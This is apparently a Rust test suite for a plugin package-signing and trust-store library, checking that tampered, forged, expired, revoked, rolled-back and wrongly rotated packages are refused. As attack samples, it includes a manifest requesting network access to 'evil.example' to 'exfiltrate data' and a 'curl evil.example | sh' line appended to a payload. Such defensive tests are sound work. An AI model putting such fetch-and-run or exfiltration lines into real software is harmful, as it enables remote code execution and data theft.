//! Signatures and the trust store under attack. Real Ed25519 keys, real packages.

use secflow_package::{PackageLimits, assemble, pack_dir};
use secflow_trust::lists::{sign_revocations, sign_rotation};
use secflow_trust::{
    KeyDir, Revocation, RevokedItem, Role, SignatureStatus, TrustStore, VerifyOptions,
    add_signature, verify,
};

const T0: u64 = 1_790_000_000;

fn package(id: &str, version: &str, extra_manifest: &str, component: &[u8]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let manifest = format!(
        "id = \"{id}\"\nversion = \"{version}\"\nkind = \"action\"\nname = \"P\"\ndescription = \"A plugin.\"\n{extra_manifest}"
    );
    std::fs::write(dir.path().join("plugin.toml"), manifest).unwrap();
    std::fs::write(dir.path().join("plugin.wasm"), component).unwrap();
    pack_dir(dir.path()).unwrap()
}

struct Env {
    _dir: tempfile::TempDir,
    keys: KeyDir,
    store: TrustStore,
}

fn env(keys: &[(&str, Role, &str)]) -> Env {
    let dir = tempfile::tempdir().unwrap();
    let key_dir = KeyDir::new(dir.path().join("keys"));
    let mut store = TrustStore::default();
    for (name, role, scope) in keys {
        let public = key_dir.generate(name).unwrap();
        store
            .add_key(&public, *role, vec![scope.to_string()], T0)
            .unwrap();
    }
    Env {
        _dir: dir,
        keys: key_dir,
        store,
    }
}

fn sign(env: &Env, pkg: &[u8], key: &str, at: u64, expires: Option<u64>) -> Vec<u8> {
    add_signature(
        pkg,
        &env.keys.signing_key(key).unwrap(),
        at,
        expires,
        &PackageLimits::default(),
    )
    .unwrap()
}

fn check(env: &mut Env, pkg: &[u8], at: u64) -> secflow_trust::Verification {
    verify(
        pkg,
        &mut env.store,
        at,
        &PackageLimits::default(),
        VerifyOptions::default(),
    )
    .unwrap()
}

fn status(v: &secflow_trust::Verification) -> &SignatureStatus {
    &v.signatures[0].status
}

#[test]
fn a_trusted_signature_is_accepted() {
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let pkg = sign(&e, &package("demo", "1.0.0", "", b"\0asm"), "pub", T0, None);
    let v = check(&mut e, &pkg, T0 + 1);
    assert!(v.accepted(), "{:?}", v.refusals);
    assert_eq!(v.plugin_id.as_deref(), Some("demo"));
    assert!(v.package.is_some());
}

#[test]
fn every_single_byte_flip_fails_verification() {
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let pkg = sign(&e, &package("demo", "1.0.0", "", b"\0asm"), "pub", T0, None);
    assert!(check(&mut e, &pkg, T0).accepted());
    let payload_len = secflow_package::Envelope::split(&pkg, &PackageLimits::default())
        .unwrap()
        .payload
        .len();
    // magic (8) + payload length (8), then the payload.
    let (payload_start, payload_end) = (16, 16 + payload_len);
    let mut checked = 0;
    for mask in [0xffu8, 0x01, 0x20] {
        for i in 0..pkg.len() {
            let mut bad = pkg.clone();
            bad[i] ^= mask;
            let outcome = verify(
                &bad,
                &mut e.store,
                T0,
                &PackageLimits::default(),
                VerifyOptions::default(),
            );
            assert!(
                outcome.as_ref().map_or(true, |v| !v.accepted()),
                "flipping byte {i} with {mask:#04x} was accepted"
            );
            // Inside the payload the outcome is exact: the signature is for other bytes.
            if (payload_start..payload_end).contains(&i) {
                let v = outcome.expect("a framed package with a changed payload verifies");
                assert_eq!(
                    v.signatures[0].status,
                    SignatureStatus::WrongPackage("signed for different package bytes".into()),
                    "byte {i}"
                );
                assert_eq!(
                    v.refusals,
                    vec!["0 valid trusted signature(s); 1 required".to_string()]
                );
            }
            checked += 1;
        }
    }
    assert_eq!(checked, pkg.len() * 3);
}

#[test]
fn manifest_edited_or_component_swapped_after_signing_is_refused() {
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let signed = sign(
        &e,
        &package("demo", "1.0.0", "", b"\0asm-good"),
        "pub",
        T0,
        None,
    );
    let block = secflow_package::Envelope::split(&signed, &PackageLimits::default())
        .unwrap()
        .signatures
        .to_vec();
    for tampered in [
        package(
            "demo",
            "1.0.0",
            "[[capabilities.network]]\nhost = \"evil.example\"\nreason = \"exfiltrate data\"\n",
            b"\0asm-good",
        ),
        package("demo", "1.0.0", "", b"\0asm-evil"),
    ] {
        let payload = secflow_package::Envelope::split(&tampered, &PackageLimits::default())
            .unwrap()
            .payload
            .to_vec();
        let forged = assemble(&payload, &block);
        let v = check(&mut e, &forged, T0);
        assert!(!v.accepted());
        assert!(
            matches!(status(&v), SignatureStatus::WrongPackage(_)),
            "{:?}",
            status(&v)
        );
    }
}

#[test]
fn untrusted_key_out_of_scope_and_threshold() {
    let mut e = env(&[
        ("acme", Role::Publisher, "acme-*"),
        ("market", Role::Marketplace, "*"),
    ]);
    let stranger = e.keys.generate("stranger").unwrap();
    assert!(e.store.key(&stranger.key_id).is_none());
    let pkg = sign(
        &e,
        &package("acme-scan", "1.0.0", "", b"\0asm"),
        "stranger",
        T0,
        None,
    );
    let v = check(&mut e, &pkg, T0);
    assert_eq!(status(&v), &SignatureStatus::Untrusted);
    assert!(!v.accepted());

    let other = sign(
        &e,
        &package("evil-scan", "1.0.0", "", b"\0asm"),
        "acme",
        T0,
        None,
    );
    let v = check(&mut e, &other, T0);
    assert!(
        matches!(status(&v), SignatureStatus::OutOfScope { .. }),
        "{:?}",
        status(&v)
    );
    assert!(!v.accepted());

    e.store.set_threshold("acme-*", 2).unwrap();
    let one = sign(
        &e,
        &package("acme-scan", "1.0.0", "", b"\0asm"),
        "acme",
        T0,
        None,
    );
    let v = check(&mut e, &one, T0);
    assert!(!v.accepted(), "1 of 2");
    assert!(v.refusals[0].contains("2 required"), "{:?}", v.refusals);
    let two = sign(&e, &one, "market", T0, None);
    let v = check(&mut e, &two, T0);
    assert!(
        v.accepted(),
        "publisher + marketplace countersignature: {:?}",
        v.refusals
    );
    // Two valid signatures by one key count once. (`add_signature` replaces a key's
    // earlier signature, so the doubled block is built by hand, as an attacker would.)
    use secflow_trust::signature::{SignatureBlock, sign as sign_statement};
    let limits = PackageLimits::default();
    let framed = secflow_package::Envelope::split(&one, &limits).unwrap();
    let mut block = SignatureBlock::parse(framed.signatures).unwrap();
    let manifest = secflow_package::read_payload(framed.payload, &limits)
        .unwrap()
        .manifest;
    block.signatures.push(sign_statement(
        &e.keys.signing_key("acme").unwrap(),
        &manifest,
        &framed.digest(),
        T0 + 5,
        None,
    ));
    let doubled = assemble(framed.payload, &block.to_bytes());
    let v = check(&mut e, &doubled, T0 + 5);
    assert_eq!(v.signatures.len(), 2);
    assert!(
        v.signatures
            .iter()
            .all(|s| s.status == SignatureStatus::Valid)
    );
    assert_eq!(v.valid, 1, "one key, one vote");
    assert_eq!(
        v.refusals,
        vec!["1 valid trusted signature(s); 2 required".to_string()]
    );
}

#[test]
fn expired_signature_and_clock_moved_backwards() {
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let pkg = sign(
        &e,
        &package("demo", "1.0.0", "", b"\0asm"),
        "pub",
        T0,
        Some(T0 + 100),
    );
    assert!(check(&mut e, &pkg, T0 + 50).accepted());
    let v = check(&mut e, &pkg, T0 + 200);
    assert!(matches!(status(&v), SignatureStatus::Expired { .. }));
    // The system clock is set back: the store remembers T0 + 200, so it stays expired.
    let v = check(&mut e, &pkg, T0 + 10);
    assert!(
        matches!(status(&v), SignatureStatus::Expired { .. }),
        "{:?}",
        status(&v)
    );
    assert_eq!(v.time, T0 + 200);
}

#[test]
fn revoked_key_revoked_digest_and_signatures_after_revocation() {
    let mut e = env(&[
        ("pub", Role::Publisher, "*"),
        ("rev", Role::RevocationAuthority, "*"),
    ]);
    let pub_id = e.keys.public("pub").unwrap().key_id;
    let before = sign(&e, &package("demo", "1.0.0", "", b"\0asm"), "pub", T0, None);
    let after = sign(
        &e,
        &package("demo", "1.0.1", "", b"\0asm"),
        "pub",
        T0 + 1000,
        None,
    );
    let list = sign_revocations(
        &e.keys.signing_key("rev").unwrap(),
        vec![Revocation {
            item: RevokedItem::KeyId(pub_id),
            from: T0 + 500,
            reason: "key leaked".into(),
        }],
        T0 + 600,
    );
    assert_eq!(e.store.import_revocations(&list).unwrap(), 1);
    assert!(
        check(&mut e, &before, T0 + 700).accepted(),
        "signed before the revocation time"
    );
    let v = check(&mut e, &after, T0 + 1100);
    assert!(
        matches!(status(&v), SignatureStatus::RevokedKey { .. }),
        "{:?}",
        status(&v)
    );

    // A revoked digest is refused whatever signs it.
    let digest = secflow_package::Envelope::split(&before, &PackageLimits::default())
        .unwrap()
        .digest();
    let list = sign_revocations(
        &e.keys.signing_key("rev").unwrap(),
        vec![Revocation {
            item: RevokedItem::PackageSha256(digest),
            from: T0,
            reason: "malware".into(),
        }],
        T0 + 1200,
    );
    e.store.import_revocations(&list).unwrap();
    let v = check(&mut e, &before, T0 + 1300);
    assert!(
        !v.accepted() && v.refusals.iter().any(|r| r.contains("revoked")),
        "{:?}",
        v.refusals
    );

    // Only a revocation authority may revoke; a publisher's list is refused.
    let forged = sign_revocations(&e.keys.signing_key("pub").unwrap(), vec![], T0);
    assert!(matches!(
        e.store.import_revocations(&forged),
        Err(secflow_trust::TrustError::Refused(m)) if m.ends_with("it cannot revoke")
    ));
    // A revocation list edited after signing is refused.
    let mut edited = list.clone();
    edited.body = edited.body.replace("malware", "fine!!!");
    assert_ne!(edited.body, list.body, "the edit changed something");
    assert!(matches!(
        e.store.import_revocations(&edited),
        Err(secflow_trust::TrustError::Refused(m)) if m == "the signature does not verify"
    ));
}

#[test]
fn a_marketplace_key_revokes_the_digests_it_distributed_but_never_a_key() {
    let mut e = env(&[
        ("pub", Role::Publisher, "*"),
        ("market", Role::Marketplace, "*"),
    ]);
    let pkg = sign(&e, &package("demo", "1.0.0", "", b"\0asm"), "pub", T0, None);
    let digest = secflow_package::Envelope::split(&pkg, &PackageLimits::default())
        .unwrap()
        .digest();
    let pub_id = e.store.keys[0].key_id.clone();
    let market = e.keys.signing_key("market").unwrap();
    // A key revocation in the list refuses the whole list, digest included.
    let overreach = sign_revocations(
        &market,
        vec![
            Revocation {
                item: RevokedItem::PackageSha256(digest.clone()),
                from: T0,
                reason: "malware".into(),
            },
            Revocation {
                item: RevokedItem::KeyId(pub_id),
                from: T0,
                reason: "a competitor".into(),
            },
        ],
        T0 + 10,
    );
    assert!(matches!(
        e.store.import_revocations(&overreach),
        Err(secflow_trust::TrustError::Refused(m)) if m.contains("package digests only")
    ));
    assert!(e.store.revocations.is_empty());
    assert!(check(&mut e, &pkg, T0 + 20).accepted());
    let kill = sign_revocations(
        &market,
        vec![Revocation {
            item: RevokedItem::PackageSha256(digest),
            from: T0,
            reason: "malware".into(),
        }],
        T0 + 30,
    );
    assert_eq!(e.store.import_revocations(&kill).unwrap(), 1);
    let v = check(&mut e, &pkg, T0 + 40);
    assert!(
        v.refusals.iter().any(|r| r.contains("revoked")),
        "{:?}",
        v.refusals
    );
}

#[test]
fn rollback_to_an_older_version_is_refused_unless_allowed() {
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let v2 = sign(&e, &package("demo", "2.0.0", "", b"\0asm"), "pub", T0, None);
    let v1 = sign(&e, &package("demo", "1.0.0", "", b"\0asm"), "pub", T0, None);
    assert!(check(&mut e, &v2, T0).accepted());
    let v = check(&mut e, &v1, T0);
    assert!(
        !v.accepted() && v.refusals[0].contains("rollback"),
        "{:?}",
        v.refusals
    );
    let v = verify(
        &v1,
        &mut e.store,
        T0,
        &PackageLimits::default(),
        VerifyOptions {
            allow_rollback: true,
        },
    )
    .unwrap();
    assert!(v.accepted() && v.rollback_override);
    assert_eq!(
        e.store.rollback_overrides.len(),
        1,
        "the override is recorded"
    );
    assert_eq!(
        e.store.trusted_versions["demo"], "2.0.0",
        "the high-water mark stays"
    );
}

#[test]
fn key_rotation_accepts_the_new_key_and_retires_the_old() {
    let mut e = env(&[("old", Role::Publisher, "acme-*")]);
    let new_public = e.keys.generate("new").unwrap();
    let rotation = sign_rotation(&e.keys.signing_key("old").unwrap(), &new_public, T0 + 100);
    assert_eq!(e.store.rotate(&rotation).unwrap(), new_public.key_id);
    assert_eq!(
        e.store.key(&new_public.key_id).unwrap().scopes,
        vec!["acme-*".to_string()]
    );
    let by_new = sign(
        &e,
        &package("acme-x", "1.0.0", "", b"\0asm"),
        "new",
        T0 + 200,
        None,
    );
    assert!(check(&mut e, &by_new, T0 + 200).accepted());
    let by_old_after = sign(
        &e,
        &package("acme-x", "1.1.0", "", b"\0asm"),
        "old",
        T0 + 300,
        None,
    );
    let v = check(&mut e, &by_old_after, T0 + 300);
    assert!(
        matches!(status(&v), SignatureStatus::RetiredKey { .. }),
        "{:?}",
        status(&v)
    );
    // A rotation signed by a key that is not trusted is refused, for that reason.
    let mallory = e.keys.generate("mallory").unwrap();
    let mallory_next = e.keys.generate("mallory-next").unwrap();
    let forged = sign_rotation(
        &e.keys.signing_key("mallory").unwrap(),
        &mallory_next,
        T0 + 400,
    );
    match e.store.rotate(&forged) {
        Err(secflow_trust::TrustError::Refused(m)) => assert_eq!(
            m,
            format!("key {} is not in the trust store", mallory.key_id)
        ),
        other => panic!("{other:?}"),
    }
    assert!(e.store.key(&mallory_next.key_id).is_none());
}

#[test]
fn keys_are_private_and_stable() {
    let top = tempfile::tempdir().unwrap();
    let dir_path = top.path().join("keys");
    let keys = KeyDir::new(&dir_path);
    let public = keys.generate("pub").unwrap();
    assert_eq!(keys.public("pub").unwrap(), public, "stable key id");
    let secret = std::fs::read(dir_path.join("pub.key")).unwrap();
    assert!(matches!(
        keys.generate("pub"),
        Err(secflow_trust::TrustError::BadKey(m)) if m.contains("already exists")
    ));
    assert_eq!(
        std::fs::read(dir_path.join("pub.key")).unwrap(),
        secret,
        "no overwrite"
    );
    assert!(matches!(
        keys.generate("../evil"),
        Err(secflow_trust::TrustError::BadKey(m)) if m.contains("use 1 to 64")
    ));
    assert!(
        !top.path().join("evil.key").exists(),
        "nothing written outside"
    );

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir_path.join("pub.key"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let text = std::fs::read_to_string(dir_path.join("pub.pub")).unwrap();
    let (parsed, _) = secflow_trust::PublicKeyFile::parse(&text).unwrap();
    assert_eq!(parsed.key_id, public.key_id);
    let tampered = text.replace(&public.key_id, &"0".repeat(32));
    assert!(matches!(
        secflow_trust::PublicKeyFile::parse(&tampered),
        Err(secflow_trust::TrustError::BadKey(m)) if m == "the key id does not match the public key"
    ));
    assert!(dir_path.join("pub.key").exists());
}

#[test]
fn store_round_trips_on_disk() {
    let dir = tempfile::tempdir().unwrap();
    let path = TrustStore::path(dir.path());
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    e.store.observe_time(T0 + 5);
    e.store.save(&path).unwrap();
    assert_eq!(TrustStore::load(&path).unwrap(), e.store);
    std::fs::write(&path, "{not json").unwrap();
    assert!(TrustStore::load(&path).is_err());
}

#[test]
fn a_valid_signature_over_non_canonical_bytes_is_still_refused() {
    use secflow_package::{Envelope, PackageError, payload_digest, read_payload};
    use secflow_trust::TrustError;
    use secflow_trust::signature::{SignatureBlock, sign as sign_statement};
    let mut e = env(&[("pub", Role::Publisher, "*")]);
    let limits = PackageLimits::default();
    let pkg = package("demo", "1.0.0", "", b"\0asm");
    let envelope = Envelope::split(&pkg, &limits).unwrap();
    let manifest = read_payload(envelope.payload, &limits).unwrap().manifest;
    // The publisher signs payload bytes with something appended after the gzip stream: the
    // signature is genuinely valid for those bytes (add_signature would already refuse to
    // sign them, so the statement is made by hand, as an attacker with the key could).
    let mut payload = envelope.payload.to_vec();
    payload.extend_from_slice(b"#!/bin/sh\ncurl evil.example | sh\n");
    let entry = sign_statement(
        &e.keys.signing_key("pub").unwrap(),
        &manifest,
        &payload_digest(&payload),
        T0,
        None,
    );
    let block = SignatureBlock {
        signatures: vec![entry],
    };
    let forged = assemble(&payload, &block.to_bytes());
    match verify(
        &forged,
        &mut e.store,
        T0 + 1,
        &limits,
        VerifyOptions::default(),
    ) {
        Err(TrustError::Package(PackageError::NotCanonical(reason))) => {
            assert!(
                reason.contains("after the end of the gzip stream"),
                "{reason}"
            )
        }
        other => panic!("expected a not-canonical refusal, got {other:?}"),
    }
    // And the signer refuses to produce such a signature in the first place.
    let unsigned = assemble(&payload, &[]);
    match add_signature(
        &unsigned,
        &e.keys.signing_key("pub").unwrap(),
        T0,
        None,
        &limits,
    ) {
        Err(TrustError::Package(PackageError::NotCanonical(_))) => {}
        other => panic!("expected the signer to refuse, got {other:?}"),
    }
}
